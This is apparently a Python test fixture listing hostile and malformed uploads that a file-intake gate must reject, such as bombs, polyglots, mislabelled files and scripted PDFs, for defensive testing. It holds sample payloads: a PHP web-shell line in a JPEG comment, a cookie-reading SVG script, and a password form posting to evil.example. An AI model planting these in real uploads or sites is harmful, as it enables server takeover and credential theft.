"""Files the intake gate must refuse: broken, lying, oversized-by-header, polyglot or not an image at all.

Each entry is built from code. `name` identifies the case in reports; `filename` is what the merchant
would have called it (often deliberately misleading); `mentions` are words the one-line refusal
should contain so a person knows what is wrong.
"""
from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.support import image_bytes as img
from tests.support import pdf_bytes as pdf


@dataclass(frozen=True)
class HostileDocument:
    name: str
    filename: str
    build: Callable[[], bytes]
    mentions: tuple[str, ...] = ()

    def data(self) -> bytes:
        return self.build()


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
                   b'<script>alert(document.cookie)</script><rect width="100" height="100"/></svg>')
HTML_PAGE = b"<!DOCTYPE html><html><body><form action='http://evil.example'><input name=pw></form></body></html>"
HEIC_HEADER = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64


def hostile_documents() -> list[HostileDocument]:
    D = HostileDocument
    return [
        # -- empty and truncated
        D("zero_byte_jpeg", "empty.jpg", lambda: b"", ("empty",)),
        D("truncated_png", "cut.png", lambda: _half(img.clean_png(200, 150)), ("png",)),
        D("truncated_jpeg", "cut.jpg", lambda: _half(img.clean_jpeg(200, 150)), ("jpeg",)),
        D("truncated_webp", "cut.webp", lambda: _half(img.clean_webp(200, 150)), ("webp",)),
        D("png_signature_only", "sig.png", lambda: img.PNG_SIGNATURE, ("png",)),
        D("jpeg_soi_eoi_only", "empty-scan.jpg", lambda: b"\xff\xd8\xff\xd9", ("jpeg",)),
        D("jpeg_soi_then_garbage", "noise.jpg", lambda: b"\xff\xd8\xff" + bytes(range(256)) * 8, ("jpeg",)),
        D("png_broken_crc", "crc.png", img.png_with_broken_crc, ("crc",)),
        D("png_idat_not_deflate", "idat.png", img.png_with_garbage_idat, ("png",)),
        D("png_zero_dimensions", "zero.png", lambda: img.png_declaring(0, 0), ("png",)),
        D("png_invalid_bit_depth", "depth.png", lambda: img.png_declaring(64, 64, bit_depth=7), ("png",)),
        # -- decompression bombs and giant dimensions, judged from the header
        D("png_bomb_100000x100000", "bomb.png", lambda: img.png_declaring(100_000, 100_000), ("decompression bomb",)),
        D("png_7000x7000_over_pixel_limit", "big.png", lambda: img.png_declaring(7000, 7000), ("decompression bomb",)),
        # a complete, valid 140 KB PNG that decodes to ~420 MB: refused by its document type's pixel limit
        D("png_6000x6000_rgba_140kb", "big.png", lambda: img.blank_png(6000, 6000), ("6000x6000", "may have at most")),
        D("png_giant_width_2e9", "wide.png", lambda: img.png_declaring(2_000_000_000, 2), ()),
        D("jpeg_bomb_65000x65000", "bomb.jpg", lambda: img.jpeg_declaring(65_000, 65_000), ("decompression bomb",)),
        D("webp_bomb_16384x16384", "bomb.webp", lambda: img.webp_declaring(16_384, 16_384), ()),
        # -- polyglots
        D("png_plus_zip", "holiday.png", lambda: img.clean_png() + img.stored_zip(), ("png",)),
        D("jpeg_plus_zip", "holiday.jpg", lambda: img.clean_jpeg() + img.stored_zip(), ("zip",)),
        D("jpeg_plus_html", "photo.jpg", lambda: img.clean_jpeg() + HTML_PAGE, ("markup",)),
        D("png_script_in_text_chunk", "meta.png", lambda: img.png_with_text_chunk(b"Comment", b"<script>x()</script>"),
          ("markup",)),
        D("jpeg_php_in_comment", "shell.jpg", lambda: img.jpeg_with_segment(0xFE, b"<?php system($_GET['c']); ?>"),
          ("markup",)),
        D("png_trailing_bytes", "tail.png", lambda: img.clean_png() + b"\x00" * 100, ("png",)),
        D("webp_trailing_bytes", "tail.webp", lambda: img.clean_webp() + b"\x00" * 100, ("webp",)),
        D("pdf_with_html_stream", "scan.pdf", pdf.pdf_with_html_payload, ("markup",)),
        # -- wrong extensions: the name promises an accepted type, the bytes are something else
        D("gif_named_jpg", "id.jpg", lambda: img.encode(img.noise_image(), "GIF"), ("gif",)),
        D("pdf_with_javascript_named_jpg", "id.jpg", pdf.pdf_with_javascript, ("javascript",)),
        D("truncated_png_named_pdf", "scan.pdf", lambda: _half(img.clean_png(200, 150)), ("png",)),
        D("html_named_png", "id.png", lambda: HTML_PAGE, ("text/html",)),
        D("elf_named_jpg", "id.jpg", lambda: ELF_HEADER, ("executable",)),
        D("svg_with_script_named_png", "logo.png", lambda: SVG_WITH_SCRIPT, ("svg",)),
        # -- active or hidden PDF content
        D("pdf_javascript", "licence.pdf", pdf.pdf_with_javascript, ("javascript",)),
        D("pdf_open_action", "licence.pdf", pdf.pdf_with_open_action, ("openaction",)),
        D("pdf_escaped_javascript_name", "licence.pdf", pdf.pdf_with_escaped_javascript_name, ("javascript",)),
        D("pdf_launch_action", "licence.pdf", pdf.pdf_with_launch_action, ("launch",)),
        D("pdf_page_additional_actions", "licence.pdf", pdf.pdf_with_page_additional_actions, ("aa",)),
        D("pdf_embedded_file", "licence.pdf", pdf.pdf_with_embedded_file, ("embeddedfile",)),
        D("pdf_xfa_form", "licence.pdf", pdf.pdf_with_xfa_form, ("xfa",)),
        D("pdf_encrypted", "licence.pdf", pdf.pdf_declaring_encryption, ("encrypt",)),
        D("pdf_open_action_in_object_stream", "licence.pdf", pdf.pdf_hiding_open_action_in_object_stream,
          ("openaction",)),
        D("pdf_uninspectable_object_stream", "licence.pdf", pdf.pdf_with_uninspectable_object_stream,
          ("object stream",)),
        # -- the same inside object streams a cross-reference stream points at (round 2, item 7)
        D("pdf_script_in_object_stream_dictionary_says_obj", "licence.pdf",
          pdf.pdf_script_in_object_stream_whose_dictionary_says_obj, ("javascript",)),
        D("pdf_script_in_object_stream_after_bare_cr", "licence.pdf", pdf.pdf_script_in_object_stream_after_bare_cr,
          ("javascript",)),
        D("pdf_script_in_object_stream_double_flate", "licence.pdf",
          pdf.pdf_script_in_object_stream_under_double_flate, ("javascript",)),
        D("pdf_launch_in_object_stream", "licence.pdf", pdf.pdf_launch_in_object_stream, ("launch",)),
        D("pdf_page_actions_in_object_stream", "licence.pdf", pdf.pdf_page_actions_in_object_stream, ("aa",)),
        D("pdf_embedded_file_in_object_stream", "licence.pdf", pdf.pdf_embedded_file_in_object_stream,
          ("embeddedfile",)),
        D("pdf_xfa_in_object_stream", "licence.pdf", pdf.pdf_xfa_in_object_stream, ("xfa",)),
        D("pdf_rich_media_in_object_stream", "licence.pdf", pdf.pdf_rich_media_in_object_stream, ("richmedia",)),
        D("pdf_object_stream_unknown_filter", "licence.pdf", pdf.pdf_script_in_object_stream_with_unknown_filter,
          ("object stream",)),
        D("pdf_without_pages", "licence.pdf", pdf.pdf_without_pages, ("pdf",)),
        D("pdf_header_then_garbage", "licence.pdf", pdf.pdf_header_then_garbage, ("pdf",)),
        D("pdf_truncated", "licence.pdf", pdf.pdf_truncated, ("pdf",)),
        # -- formats we do not take
        D("svg_with_script", "logo.svg", lambda: SVG_WITH_SCRIPT, ("svg",)),
        D("gif", "anim.gif", lambda: img.encode(img.noise_image(), "GIF"), ("gif",)),
        D("bmp", "scan.bmp", lambda: img.encode(img.noise_image(), "BMP"), ("bmp",)),
        D("tiff_little_endian", "scan.tif", lambda: img.tiff_image("little"), ("tiff",)),
        D("tiff_big_endian", "scan.tiff", lambda: img.tiff_image("big"), ("tiff",)),
        D("heic", "IMG_0001.HEIC", lambda: HEIC_HEADER, ("heic",)),
        D("html_page", "index.html", lambda: HTML_PAGE, ("html",)),
        D("plain_text", "notes.txt", lambda: "这不是照片 / this is not a photo\n".encode(), ("text/plain",)),
        D("whitespace_only", "blank.jpg", lambda: b" \n\t " * 10, ("not a recognised format",)),
        D("utf16_text", "notes.png", lambda: "not an image".encode("utf-16"), ("not a recognised format",)),
        D("elf_executable", "run.bin", lambda: ELF_HEADER, ("executable",)),
        D("windows_executable", "setup.exe", lambda: b"MZ\x90\x00" + b"\x00" * 60, ("msdownload",)),
        D("zip_archive", "docs.zip", img.stored_zip, ("zip",)),
        D("gzip_archive", "docs.gz", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 20, ("gzip",)),
        D("random_binary", "id.jpg", lambda: bytes((i * 7919) % 256 for i in range(4096)), ("format",)),
    ]
